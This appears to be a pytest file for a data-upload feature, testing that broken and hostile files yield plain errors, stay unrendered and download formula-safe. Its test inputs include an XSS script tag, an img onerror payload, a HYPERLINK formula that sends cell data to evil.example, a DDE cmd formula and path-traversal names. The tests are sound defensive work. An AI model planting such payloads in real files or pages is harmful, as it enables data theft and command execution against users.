"""Hostile and broken uploads on /upload: every one ends in a sentence, nothing is drawn as HTML, downloads are formula-safe."""
from __future__ import annotations

import io
import re

import pytest

from store import uploads
from model.errors import InputError

from .analyst_kit import VANCOUVER, analyst, check, errors, failed_check, ok, read_csv, texts, upload

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _no_html(at) -> None:
    """Uploaded text is never drawn as HTML or Markdown: every '<' reaches Markdown escaped."""
    assert not at.get("html")
    for m in at.markdown:
        assert not re.search(r"(?<!\\)<", m.value), m.value


def _sentence(at, expected: str) -> None:
    ok(at)
    errs = errors(at)
    assert len(errs) == 1 and expected in errs[0], errs
    assert "Traceback" not in texts(at)


def test_empty_file(store):
    at = upload(analyst(), "q3.csv", b"")
    _sentence(at, "q3.csv: the file is empty (0 bytes)")
    assert not store.list_drafts()


@pytest.mark.parametrize("name,data,expected", [
    ("payload.exe", b"MZ\x90\x00" + b"\x00" * 100, "this is a .exe file. Upload the export as CSV, XLSX or JSON"),
    ("notes", b"a,b\n1,2\n", "this is a file without an extension"),
    ("photo.csv", b"\x89PNG\r\n\x1a\n" + b"\x00" * 200, "this is an image, not a data export"),
    ("export.xlsx", b"PK\x03\x04 not really a workbook", "could not be opened"),
    ("export.json", b'{"records": [1, 2', "the JSON is not valid"),
    ("noise.csv", bytes(range(256)) * 40, "binary file"),
])
def test_wrong_type_or_broken_file(store, name, data, expected):
    at = upload(analyst(), name, data)
    _sentence(at, expected)
    assert not store.list_drafts()


def test_over_the_size_limit_is_refused_on_the_server(store, realdata, monkeypatch):
    monkeypatch.setenv("BRIDGES_MAX_UPLOAD_MB", "0.5")
    src = realdata / VANCOUVER
    at = upload(analyst(), src.name, src.read_bytes())
    _sentence(at, "2.8 MB, over this server's upload limit of 0.5 MB")
    assert not (store.root / "uploads").exists() or not any((store.root / "uploads").iterdir())


def test_limit_from_the_settings_file(tmp_path, monkeypatch):
    monkeypatch.delenv("BRIDGES_MAX_UPLOAD_MB", raising=False)
    (tmp_path / "analyst.toml").write_text("[upload]\nmax_mb = 2\n")
    assert uploads.max_bytes(tmp_path) == 2 * 1048576
    with pytest.raises(InputError, match="over this server's upload limit of 2.0 MB"):
        uploads.check("q.csv", 3 * 1048576, uploads.max_bytes(tmp_path))


def test_file_names_cannot_escape_the_staging_folder(tmp_path):
    assert uploads.safe_name("../../etc/passwd.csv") == "passwd.csv"
    assert uploads.safe_name("C:\\Users\\x\\q3 <b>.CSV") == "q3 _b_.csv"
    s = uploads.stage(tmp_path, "../../../evil.csv", b"a,b\n1,2\n")
    assert s.path.resolve().is_relative_to((tmp_path / "uploads").resolve())


def test_script_tags_and_formulas_stay_text(store, realdata, tmp_path):
    header, rows = read_csv(realdata / VANCOUVER)
    rows = rows[:200]
    rows[3][0] = SCRIPT  # an offence type no crosswalk knows: rejected and listed
    rows[3][6] = FORMULA
    rows[4][7] = "<img src=x onerror=alert(1)> [click](http://evil.example)"
    buf = io.StringIO()
    import csv

    csv.writer(buf).writerows([header, *rows])
    at = upload(analyst(), f"{SCRIPT}.csv", buf.getvalue().encode())
    ok(at)
    rep = check(at)
    assert SCRIPT in rep["unmapped"]["category"]
    body = texts(at)
    assert SCRIPT in body  # shown to the analyst, as text
    _no_html(at)
    assert not any("evil.example" in m.value and "](" in m.value for m in at.markdown)  # no live link
    # the download of rejected rows: every row with its reason, cells that a spreadsheet would run are neutralized
    rejected = uploads.rejected_rows(store, rep["draft"])
    assert len(rejected) == rep["rows_rejected"] and rejected["reason"].notna().all()
    text = uploads.safe_csv(rejected).decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text
    assert re.search(r'(^|,)"?=', text, re.M) is None


def test_unknown_export_with_hostile_headers(store):
    data = (f'"{SCRIPT}",When,Kind,"=1+1"\n' + "\n".join(f"A{i},2025-07-0{1 + i % 9} 10:00,Burglary,=cmd|'/C calc'!A0" for i in range(30))).encode()
    at = upload(analyst(), "weird.csv", data)
    ok(at)
    assert "Map the columns of this export" in texts(at)
    _no_html(at)


def test_several_sheets_ask_which(store, realdata, tmp_path):
    from openpyxl import Workbook

    header, rows = read_csv(realdata / VANCOUVER)
    wb = Workbook()
    ws = wb.active
    ws.title = "Notes"
    ws.append(["Exported by", "the records system"])
    ws.append(["Quarter", "2025Q4"])
    data = wb.create_sheet("Crimes")
    data.append(header)
    for r in rows[:300]:
        data.append(r)
    f = tmp_path / "export.xlsx"
    wb.save(f)
    at = upload(analyst(), f.name, f.read_bytes())
    ok(at)
    sheet = at.selectbox(key="upl_sheet")
    assert "export.xlsx has 2 sheets with data. Which one holds the export?" in sheet.label.replace("\\", "")
    assert "upl_check" not in [b.key for b in at.button]  # nothing is read until a sheet is chosen
    sheet.set_value("Crimes").run()
    ok(at)
    assert "Recognised as a known export: Vancouver Police Department" in texts(at)
    rep = check(at)
    assert rep["sheet"] == "Crimes" and rep["rows_read"] == 300


def test_merged_header_cells(store):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["Incident", "", "Where"])
    ws.merge_cells("A1:B1")
    ws.append(["A1", "2025-07-01", "N1"])
    buf = io.BytesIO()
    wb.save(buf)
    at = upload(analyst(), "merged.xlsx", buf.getvalue())
    _sentence(at, "the header row has merged cells (A1:B1). Unmerge them")


def test_dataset_chosen_wrongly(store, realdata):
    src = realdata / VANCOUVER
    at = upload(analyst(), src.name, src.read_bytes(), dataset="engagement")
    _sentence(at, "this looks like an incidents export (Vancouver Police Department, GeoDASH crime data (CSV)), not engagement. Choose 'incidents' as the dataset above.")


def test_quarter_written_wrongly(store, realdata):
    src = realdata / VANCOUVER
    at = upload(analyst(), src.name, src.read_bytes(), quarter="Q4 2025")
    at.button(key="upl_check").click().run()
    _sentence(at, "the quarter 'Q4 2025' is not a quarter. Write it like 2026Q3")


def test_unexpected_failure_is_a_sentence_and_a_log_line(store, realdata, monkeypatch):
    at = failed_check(realdata, monkeypatch)
    _sentence(at, "Something unexpected went wrong (RuntimeError). Nothing was published.")
    assert "disk on fire" not in texts(at)
    assert "disk on fire" in (store.root / "logs" / "analyst-errors.log").read_text()
